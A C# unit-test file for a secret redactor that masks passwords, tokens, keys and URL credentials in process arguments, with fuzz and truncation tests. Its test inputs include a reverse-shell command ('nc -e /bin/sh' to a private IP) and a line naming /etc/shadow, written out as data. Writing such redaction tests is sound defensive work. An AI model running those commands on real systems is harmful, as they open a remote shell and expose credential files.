using System.Text;
using Agents.NodeAgent.Redaction;

namespace NodeAgent.Tests.Redaction;

/// <summary>Arguments are written with | for NUL.</summary>
public sealed class ArgumentRedactorTests
{
    private static readonly ArgumentRedactor Redactor = new(RedactionRules.Default);

    [Theory]
    [InlineData("tool|--password=s3cret|-v|", "tool|--password=***|-v|")]
    [InlineData("tool|--password|s3cret|-v|", "tool|--password|***|-v|")]
    [InlineData("tool|--password=two words|x|", "tool|--password=***|x|")]
    [InlineData("tool|--db.password=s|--DB-PASSWORD=s|", "tool|--db.password=***|--DB-PASSWORD=***|")]
    [InlineData("java|-DdbPassword=s|-jar|a.jar|", "java|-DdbPassword=***|-jar|a.jar|")]
    [InlineData("env|PGPASSWORD=s|psql|", "env|PGPASSWORD=***|psql|")]
    [InlineData("docker|run|-e|API_KEY=abc|img|", "docker|run|-e|API_KEY=***|img|")]
    [InlineData("tool|--api-key|abc|--apikey=abc|", "tool|--api-key|***|--apikey=***|")]
    [InlineData("tool|--client-secret=abc|--clientSecret=abc|", "tool|--client-secret=***|--clientSecret=***|")]
    [InlineData("tool|--auth-token|abc|", "tool|--auth-token|***|")]
    [InlineData("redis-server|--requirepass|abc|", "redis-server|--requirepass|***|")]
    [InlineData("tool|--password='s3 cret'|", "tool|--password='***'|")]
    public void Hides_the_value_of_a_name_that_speaks_of_a_secret(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("mysql|-uroot|-ps3cret|db|", "mysql|-uroot|-p***|db|")]
    [InlineData("/usr/bin/mysqldump|-ps3cret|", "/usr/bin/mysqldump|-p***|")]
    [InlineData("sudo|-u|root|mysql|-ps3cret|", "sudo|-u|root|mysql|-p***|")]
    [InlineData("sshpass|-p|s3cret|ssh|host|", "sshpass|-p|***|ssh|host|")]
    [InlineData("sshpass|-ps3cret|ssh|host|", "sshpass|-p***|ssh|host|")]
    [InlineData("redis-cli|-a|s3cret|ping|", "redis-cli|-a|***|ping|")]
    [InlineData("curl|-u|bob:s3cret|http://h/|", "curl|-u|bob:***|http://h/|")]
    [InlineData("curl|-ubob:s3cret|http://h/|", "curl|-ubob:***|http://h/|")]
    [InlineData("docker|login|-u|bob|-p|s3cret|", "docker|login|-u|bob|-p|***|")]
    [InlineData("openssl|rsa|-passin|pass:s3cret|", "openssl|rsa|-passin|pass:***|")]
    [InlineData("smbclient|//h/s|-U|bob%s3cret|", "smbclient|//h/s|-U|bob%***|")]
    public void Hides_the_value_of_a_programs_own_short_option(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("git|clone|https://bob:s3cret@h.example/r|", "git|clone|https://bob:***@h.example/r|")]
    [InlineData("psql|postgres://u:p%40ss@h:5432/db?x=1|", "psql|postgres://u:***@h:5432/db?x=1|")]
    [InlineData("git|clone|https://abcdefghijklmnopqrstuvwxyz@h/r|", "git|clone|https://***@h/r|")]
    [InlineData("curl|https://h/?a=1&access_token=abc&b=2|", "curl|https://h/?a=1&access_token=***&b=2|")]
    [InlineData("curl|https://h/x?sig=abc%3D&se=1|", "curl|https://h/x?sig=***&se=1|")]
    public void Hides_secrets_in_urls(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("curl|-H|Authorization: Bearer abcdef0123456789|u|", "curl|-H|Authorization: ***|u|")]
    [InlineData("curl|-H|Authorization: Basic Ym9iOnM=|u|", "curl|-H|Authorization: ***|u|")]
    [InlineData("curl|-H|X-Api-Key: abc|u|", "curl|-H|X-Api-Key: ***|u|")]
    [InlineData("tool|bearer 0123abcd|", "tool|bearer ***|")]
    [InlineData("curl|-d|{\"user\":\"bob\",\"password\":\"s3\",\"n\":1}|", "curl|-d|{\"user\":\"bob\",\"password\":\"***\",\"n\":1}|")]
    [InlineData("curl|-d|{\"password\" : \"s3\"}|", "curl|-d|{\"password\" : \"***\"}|")]
    public void Hides_secrets_in_headers_and_documents(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("aws|AKIAIOSFODNN7EXAMPLE|x|", "aws|***|x|")]
    [InlineData("tool|key:AKIAIOSFODNN7EXAMPLE,|", "tool|key:***,|")]
    [InlineData("tool|ghp_abcdefghijklmnopqrstuvwxyz0123456789|", "tool|***|")]
    [InlineData("tool|eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl|", "tool|***|")]
    [InlineData("echo|-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----|x|", "echo|-----BEGIN PRIVATE KEY-----***-----END PRIVATE KEY-----|x|")]
    public void Hides_tokens_by_their_form(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("sh|-c|mysql -ps3cret -e 'drop'|", "sh|-c|mysql -p*** -e 'drop'|")]
    [InlineData("sh|-c|id; sshpass -p 's3 cret' ssh h|", "sh|-c|id; sshpass -p *** ssh h|")]
    [InlineData("bash|-lc|tool --password s3cret --evil /etc/shadow|", "bash|-lc|tool --password *** --evil /etc/shadow|")]
    [InlineData("sh|-c|PASSWORD=x; nc -e /bin/sh 10.0.0.1 4444|", "sh|-c|PASSWORD=***; nc -e /bin/sh 10.0.0.1 4444|")]
    [InlineData("sh|-c|TOKEN='a b' curl http://h|", "sh|-c|TOKEN='***' curl http://h|")]
    public void Hides_no_more_of_a_script_than_the_secret(string arguments, string expected) => Redact(arguments).ShouldBe(expected);

    [Theory]
    [InlineData("nginx|-g|daemon off;|")]
    [InlineData("docker|run|-p|80:80|img|")]
    [InlineData("mkdir|-p|/a/b|")]
    [InlineData("grep|mysql|-pattern|")]
    [InlineData("ps|-p|1|")]
    [InlineData("ssh|-p|2222|host|")]
    [InlineData("tool|--password-file=/run/secrets/x|--token-file|/run/t|")]
    [InlineData("docker|login|--password-stdin|reg|")]
    [InlineData("tool|--secret-name=db|--access-key-id=x|--token-ttl=30|")]
    [InlineData("tool|--no-token|file|")]
    [InlineData("tool|--max-tokens|100|--keyboard=us|--key=value|")]
    [InlineData("docker|run|my-secret:latest|")]
    [InlineData("kubectl|get|secrets|-n|x|")]
    [InlineData("cat|/run/secrets/password|")]
    [InlineData("passwd|root|")]
    [InlineData("sh|-c|if [ \"$token\" == x ]; then id; fi|")]
    [InlineData("curl|https://h.example:8443/a@b|")]
    [InlineData("git|clone|https://bob@h/r|")]
    [InlineData("scp|a|git@h:/r|")]
    [InlineData("curl|-u|bob|http://h|")]
    [InlineData("tool|bearer of bad news|")]
    [InlineData("tool|AKIASHORT|xAKIAIOSFODNN7EXAMPLE|eyJ|")]
    [InlineData("tool|--password|--verbose|")]
    [InlineData("tool|--password|")]
    [InlineData("tool|--password=|")]
    [InlineData("tool|task-force=1|SG.1|")]
    [InlineData("|||")]
    [InlineData("")]
    public void Leaves_alone_what_holds_no_secret(string arguments) => Redact(arguments).ShouldBe(arguments);

    [Fact]
    public void Keeps_bytes_that_are_no_text_and_the_division_into_arguments()
    {
        byte[] arguments = [0xff, 0xfe, 0, .. "--password=x\0"u8, 0xc3, 0xa9, 0, .. "--token=\xff"u8, 0xff, 0];

        byte[] redacted = Redactor.Redact(arguments);

        redacted.ShouldBe([0xff, 0xfe, 0, .. "--password=***\0"u8, 0xc3, 0xa9, 0, .. "--token=***\0"u8]);
    }

    [Fact]
    public void Never_throws_and_never_changes_the_number_of_arguments()
    {
        var random = new Random(3);
        string[] parts = ["--password", "=", ":", " ", "\0", "\"", "'", "://", "@", "curl", "mysql", "-p", "-u", "bearer ", "AKIAIOSFODNN7EXAMPLE", "x", ";",
            "-----BEGIN PRIVATE KEY-----", "-c", "é", "token", "sudo"];
        for (int i = 0; i < 20_000; i++)
        {
            string text = string.Concat(Enumerable.Range(0, random.Next(14)).Select(_ => parts[random.Next(parts.Length)]));
            byte[] redacted = Redactor.Redact(Encoding.UTF8.GetBytes(text));
            redacted.Count(one => one == 0).ShouldBe(text.Count(one => one == '\0'), text);
        }
    }

    [Fact]
    public void Is_done_with_what_it_has_done() => Redact("tool|--password=***|https://u:***@h|").ShouldBe("tool|--password=***|https://u:***@h|");

    [Fact]
    public void Cuts_at_the_bound_and_says_so()
    {
        Redactor.Apply("abc\0def\0"u8, 8).ShouldBeLike("abc|def|", truncated: false);
        Redactor.Apply("abc\0def\0"u8, 6).ShouldBeLike("abc|de", truncated: true);
        Redactor.Apply("abcé"u8, 4).ShouldBeLike("abc", truncated: true);
        Redactor.Apply([0xff, 0xbf, 0xbf, 0xbf, 0xbf, 0xbf], 5).Bytes.Length.ShouldBe(5);
    }

    [Fact]
    public void Lets_no_secret_through_that_lies_across_the_bound() =>
        Redactor.Apply("tool\0AKIAIOSFODNN7EXAMPLE\0"u8, 12).ShouldBeLike("tool|***|", truncated: true);

    [Fact]
    public void Redacts_arguments_that_are_text()
    {
        Redactor.Redact(["mysql", "-px", "a b"]).ShouldBe(["mysql", "-p***", "a b"]);
        Redactor.Redact(["sh -c mysql -px"]).ShouldBe(["sh -c mysql -px"]);
        Redactor.Redact(["mysql -px"]).ShouldBe(["mysql -p***"]);
    }

    private static string Redact(string arguments) =>
        Encoding.UTF8.GetString(Redactor.Redact(Encoding.UTF8.GetBytes(arguments.Replace('|', '\0')))).Replace('\0', '|');
}

internal static class SafeArgumentsExpectations
{
    public static void ShouldBeLike(this SafeArguments safe, string arguments, bool truncated)
    {
        Encoding.UTF8.GetString(safe.Bytes).Replace('\0', '|').ShouldBe(arguments);
        safe.Truncated.ShouldBe(truncated);
    }
}
